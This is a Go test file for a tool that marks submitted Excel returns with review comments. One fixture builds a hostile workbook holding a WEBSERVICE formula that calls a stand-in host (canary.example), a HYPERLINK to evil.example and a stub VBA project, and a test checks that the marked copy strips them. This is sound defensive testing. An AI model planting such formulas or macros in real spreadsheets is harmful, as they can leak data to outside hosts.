package templates_test

import (
	"bytes"
	"errors"
	"fmt"
	"image"
	"image/png"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
	"pgregory.net/rapid"

	"parkstat/facts"
	"parkstat/templates"
	"parkstat/templates/xlsx"
)

// What a sender can make grow without end has an end.
func TestMarkBounds(t *testing.T) {
	form := shippedForm(t)
	data := blank(t, form, answers())
	r := review()
	r.Problems[1].Reason = strings.Repeat("长", 5_000)
	for range 1_000 {
		r.Problems = append(r.Problems, problem(facts.Info, "A09", "", "又一条", ""))
	}
	all := lines(t, marked(t, form, data, r))
	if len(all) != 301 || !strings.HasPrefix(all[300][0], "另有 706 条没有列出") || all[0][2] != "B01" {
		t.Errorf("%d lines, the last %q", len(all), all[len(all)-1])
	}
	if n := len([]rune(all[2][6])); n != 2_000 {
		t.Errorf("a reason of %d characters", n)
	}

	long := drawnForm(t, shopForm())
	a := templates.Answers{Unit: facts.Respondent{ID: "BM01", Name: "商务局"}, Period: month(2023, 6), Asked: map[string]facts.Value{}}
	for n := 1; n <= 12; n++ {
		a.Asked[fmt.Sprintf("shop.%d.name", n)] = facts.TextValue(strings.Repeat("长", 32_000))
	}
	book := read(t, blank(t, long, a))
	if _, err := long.Marked(templates.Answers{}, book, templates.Review{Version: "1"}); err != nil {
		t.Errorf("1.1 MB of text: %v", err)
	}
	for n := 1; n <= 12; n++ {
		a.Asked[fmt.Sprintf("shop.%d.sold", n)] = facts.TextValue(strings.Repeat("长", 32_000))
	}
	_, err := long.Marked(templates.Answers{}, read(t, blank(t, long, a)), templates.Review{Version: "1"})
	wantError(t, err, "bytes of text in its cells")

	rows := edited(t, blank(t, long, templates.Answers{Period: month(2023, 6)}), func(f *excelize.File) error {
		sheet := f.GetSheetName(0)
		all := []error{f.InsertRows(sheet, 23, 350)}
		for row := range 340 {
			all = append(all, f.SetCellStr(sheet, xlsx.Ref(23+row, 2), "又一家"))
		}
		return errors.Join(all...)
	})
	if n := len(long.Beyond(long.Locate(read(t, rows)))); n != 340 {
		t.Fatalf("%d rows beyond the last", n)
	}
	out, err := long.Marked(templates.Answers{}, read(t, rows), templates.Review{Version: "1"})
	if err != nil {
		t.Fatal(err)
	}
	if n := len(long.Beyond(long.Locate(read(t, out)))); n != 200-12 {
		t.Errorf("%d rows come back", n)
	}
	if all := lines(t, out); !strings.Contains(read(t, out).Sheet(templates.ReviewSheet).At(5, 1).Text, "等 152 格") {
		t.Errorf("what is left is told as %q", all)
	}
}

// The office's own comment on a cell gives way to what is wrong there.
func TestMarkOnTheOfficesComment(t *testing.T) {
	def := shopForm()
	data, err := templates.Draw(def)
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	data = edited(t, data, func(f *excelize.File) error {
		at := f.GetSheetName(0)
		return errors.Join(f.AddComment(at, excelize.Comment{Author: "园区", Cell: "D7", Text: "填累计数"}),
			f.AddComment(at, excelize.Comment{Author: "园区", Cell: "A1", Text: "每月 5 日前"}))
	})
	if err := os.WriteFile(filepath.Join(dir, def.Workbook), data, 0o600); err != nil {
		t.Fatal(err)
	}
	form, err := templates.OpenForm(templates.NewLibrary(dir), ".", def)
	if err != nil {
		t.Fatal(err)
	}
	sheet, ref := form.Cell("seen.ytd")
	if ref != "D7" {
		t.Fatalf("it is asked in %s", ref)
	}
	a := templates.Answers{Unit: facts.Respondent{ID: "BM01", Name: "商务局"}, Period: month(2023, 6)}
	p := problem(facts.Error, "C16", ref, "为负", "")
	p.At.Sheet = sheet
	out := markedFor(t, form, a, blank(t, form, a), templates.Review{Version: "1", Verdict: "退回", Problems: []facts.Problem{p}})
	if c := commentsOf(t, opening(t, out), sheet); len(c) != 2 || c["A1"] != "每月 5 日前" || !strings.Contains(c["D7"], "C16") {
		t.Errorf("comments %q", c)
	}
}

// canary stands wherever a package can hold something.
const canary = "CANARY"

// hostile is a return with something of its sender's in every corner of its package.
func hostile(t *testing.T, form *templates.Form) []byte {
	data := edited(t, blank(t, form, answers()), func(f *excelize.File) error {
		style, err := f.NewStyle(&excelize.Style{Font: &excelize.Font{Family: canary, Color: "FF0000"}, CustomNumFmt: &[]string{`"` + canary + `"0`}[0]})
		_, extra := f.NewSheet(canary)
		condition, errs := f.NewConditionalStyle(&excelize.Style{Font: &excelize.Font{Color: "FF0000"}})
		dv := excelize.NewDataValidation(true)
		dv.SetSqref("D9")
		dv.SetInput(canary, canary)
		return errors.Join(err, extra, errs, f.SetCellStyle(formSheet, "D9", "E12", style), f.SetCellStr(canary, "A1", canary),
			f.SetCellStr(formSheet, "L30", canary),
			f.SetCellFormula(formSheet, "D10", `WEBSERVICE("https://canary.example/`+canary+`")`),
			f.SetCellHyperLink(formSheet, "D9", "https://"+canary+".example", "External"),
			f.AddComment(formSheet, excelize.Comment{Author: canary, Cell: "D9", Text: canary}),
			f.SetDefinedName(&excelize.DefinedName{Name: canary, RefersTo: formSheet + "!$A$1"}),
			f.SetHeaderFooter(formSheet, &excelize.HeaderFooterOptions{OddFooter: canary}), f.AddDataValidation(formSheet, dv),
			f.SetConditionalFormat(formSheet, "E9", []excelize.ConditionalFormatOptions{
				{Type: "formula", Criteria: `$A$1="` + canary + `"`, Format: &condition}}),
			f.AddPictureFromBytes(formSheet, "J20", &excelize.Picture{Extension: ".png", File: append(dot(t), canary...),
				Format: &excelize.GraphicOptions{AltText: canary}}),
			f.AddShape(formSheet, &excelize.Shape{Cell: "J10", Type: "rect", Paragraph: []excelize.RichTextRun{{Text: canary}}}),
			f.SetDocProps(&excelize.DocProperties{Creator: canary, Title: canary, Keywords: canary}), f.SetAppProps(&excelize.AppProperties{Company: canary}),
			f.SetCellStr(formSheet, "B14", `=HYPERLINK("https://evil.example")`),
			f.AddVBAProject(append([]byte("\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1"+canary), make([]byte, 600)...)))
	})
	all, err := xlsx.Parts(data)
	if err != nil {
		t.Fatal(err)
	}
	var packed []*xlsx.Packed
	all = append(all, xlsx.Part{Name: "customXml/" + canary + ".xml", Body: []byte("<a>" + canary + "</a>")},
		xlsx.Part{Name: "xl/printerSettings/p.bin", Body: []byte(canary)})
	for _, p := range all {
		if at := bytes.LastIndex(p.Body, []byte("</")); at > 0 && (strings.HasSuffix(p.Name, ".xml") || strings.HasSuffix(p.Name, ".rels")) {
			p.Body = slices.Concat(p.Body[:at], []byte("<!--"+canary+"-->"), p.Body[at:])
		}
		k, err := xlsx.Pack(p.Name, p.Body)
		if err != nil {
			t.Fatal(err)
		}
		packed = append(packed, k)
	}
	if data, err = xlsx.Assemble(packed); err != nil {
		t.Fatal(err)
	}
	return data
}

// dot is a picture.
func dot(t *testing.T) []byte {
	var out bytes.Buffer
	if err := png.Encode(&out, image.NewGray(image.Rect(0, 0, 1, 1))); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// Nothing of a sender's package comes back but what is asked in the form's cells, as text.
func TestMarkHostile(t *testing.T) {
	form := shippedForm(t)
	data := hostile(t, form)
	for name, body := range parts(t, data) {
		if !strings.Contains(body, canary) && !strings.HasSuffix(name, ".vml") {
			t.Errorf("%s holds no canary: this test looks for nothing there", name)
		}
	}
	out := marked(t, form, data, review())
	own := parts(t, marked(t, form, blank(t, form, answers()), review()))
	for name, body := range parts(t, out) {
		if strings.Contains(strings.ToLower(name+body), strings.ToLower(canary)) {
			t.Errorf("%s holds the canary", name)
		}
		if _, ok := own[name]; !ok {
			t.Errorf("%s is in no copy of a plain return", name)
		}
		if n := strings.Count(body, "<f>") + strings.Count(body, "<f "); n > 0 {
			t.Errorf("%s has %d formulas", name, n)
		}
	}
	if c := read(t, out).Sheet(formSheet).At(14, 2); c.Text != `=HYPERLINK("https://evil.example")` || c.Kind != xlsx.Text {
		t.Errorf("the text of a cell is %v", c)
	}
	// Where the cells say the same, so does every byte of the copy but for what it says is left.
	plain := edited(t, blank(t, form, answers()), func(f *excelize.File) error {
		return errors.Join(f.SetCellStr(formSheet, "B14", `=HYPERLINK("https://evil.example")`), f.SetCellStr(formSheet, "D10", "900"))
	})
	for name, body := range parts(t, marked(t, form, plain, review())) {
		if name == "xl/worksheets/sheet1.xml" && parts(t, out)[name] != body {
			t.Errorf("%s differs from that of a plain return", name)
		}
	}
}

// Whatever stands in a return stands in its copy, and whatever is said of it is text.
func TestMarkAnything(t *testing.T) {
	form := shippedForm(t)
	type drawn struct {
		answers templates.Answers
		review  templates.Review
	}
	any := rapid.Custom(func(t *rapid.T) drawn {
		a := drawAnswers(t, form.Def)
		r := templates.Review{Version: "2023.1", Verdict: "退回"}
		for range rapid.IntRange(0, 6).Draw(t, "problems") {
			r.Problems = append(r.Problems, problem(facts.Severity(rapid.IntRange(0, 2).Draw(t, "severity")),
				rapid.StringMatching(`[A-Z][0-9]{2}`).Draw(t, "rule"),
				rapid.SampledFrom([]string{"", "D9", "B14", "A1", "D13", "H9", "XFD1048576"}).Draw(t, "at"), words.Draw(t, "message"), words.Draw(t, "hint")))
		}
		return drawn{a, r}
	})
	for seed := range 15 {
		d := any.Example(seed)
		data := blank(t, form, d.answers)
		known := d.answers
		known.Asked = nil
		was, is := read(t, data).Sheet(formSheet), read(t, markedFor(t, form, known, data, d.review)).Sheet(formSheet)
		for _, c := range slices.Concat(was.Cells, is.Cells) {
			if a, b := was.At(c.Row, c.Col), is.At(c.Row, c.Col); a.Kind != b.Kind || a.Text != b.Text {
				t.Errorf("seed %d: %s is %s %q, was %s %q", seed, c.Ref(), b.Kind, b.Text, a.Kind, a.Text)
			}
		}
	}
}

// What a marked copy takes at 5,000 units, each with figures of its own: half of them no
// longer than p50, all but one of a hundred no longer than p99.
func BenchmarkMarked(b *testing.B) {
	form := shippedForm(b)
	const units = 5_000
	known, sent := make([]templates.Answers, units), make([][]byte, 50) // a hundred returns to a blank: it is the copies that are timed
	for i := range known {
		known[i] = unfilled()
		known[i].Unit.ID, known[i].Unit.Name = facts.MakeCreditCode(fmt.Sprintf("91410999MA%06d", i)), fmt.Sprintf("企业%d", i)
	}
	for i := range sent {
		a := answers()
		a.Unit, a.Asked["gov.ytd"] = known[i].Unit, facts.Int(int64(3_000+i))
		sent[i] = blank(b, form, a)
	}
	var took []time.Duration
	for i := 0; b.Loop(); i++ {
		at := time.Now()
		markedFor(b, form, known[i%units], sent[i%len(sent)], review())
		took = append(took, time.Since(at))
	}
	slices.Sort(took)
	for name, share := range map[string]int{"p50-ms": 50, "p99-ms": 99} {
		b.ReportMetric(float64(took[len(took)*share/100].Microseconds())/1000, name)
	}
}

// A return that LibreOffice saved is marked like any other.
func TestMarkOffice(t *testing.T) {
	office, err := exec.LookPath("soffice")
	switch {
	case err == nil:
	case os.Getenv("PARKSTAT_TEST_REQUIRE") == "all":
		t.Fatal("LibreOffice is not installed")
	default:
		t.Skip("LibreOffice is not installed")
	}
	form := shippedForm(t)
	dir := t.TempDir()
	resave := func(name string, data []byte) []byte {
		t.Helper()
		in := filepath.Join(dir, name+".xlsx")
		if err := os.WriteFile(in, data, 0o600); err != nil {
			t.Fatal(err)
		}
		profile := "-env:UserInstallation=file://" + filepath.ToSlash(filepath.Join(dir, "profile"))
		convert := exec.Command(office, "--headless", profile, "--convert-to", "xlsx", "--outdir", filepath.Join(dir, "out"), in)
		if said, err := convert.CombinedOutput(); err != nil {
			t.Fatalf("%v\n%s", err, said)
		}
		out, err := os.ReadFile(filepath.Join(dir, "out", name+".xlsx"))
		if err != nil {
			t.Fatal(err)
		}
		return out
	}
	saved := resave("return", blank(t, form, answers()))
	first := marked(t, form, saved, review())
	f := opening(t, first)
	if got := fillOf(t, f, "D9"); got != "F2CB7A" {
		t.Errorf("D9 is filled %q", got)
	}
	// LibreOffice opens and saves the copy, the sender having given a reason and mended a figure.
	sent := resave("marked", edited(t, first, func(f *excelize.File) error {
		return errors.Join(f.SetCellStr(templates.ReviewSheet, "G7", "新厂区投产"), f.SetCellInt(formSheet, "E9", 3100))
	}))
	book := read(t, sent)
	if got := reasonsOf(book); !reflect.DeepEqual(got, map[templates.ReviewKey]string{{Rule: "C03", Ref: "D9"}: "新厂区投产"}) {
		t.Errorf("reasons %v", got)
	}
	if p := form.Locate(book); p == nil || p.Cells["gov.ytd"].Text != "3100" || templates.Identify(book).Unit != unitCode {
		t.Errorf("the copy is no longer the form: %+v", p)
	}
	r := review()
	r.Problems = r.Problems[1:2]
	second := opening(t, marked(t, form, sent, r))
	for ref, colour := range map[string]string{"D9": "F2CB7A", "E9": "FFF9DB"} {
		if got := fillOf(t, second, ref); got != colour {
			t.Errorf("%s is filled %q, want %q", ref, got, colour)
		}
	}
	if c := commentsOf(t, second, formSheet); len(c) != 1 || strings.Count(c["D9"], "【审核意见】") != 1 {
		t.Errorf("comments %q", c)
	}
}
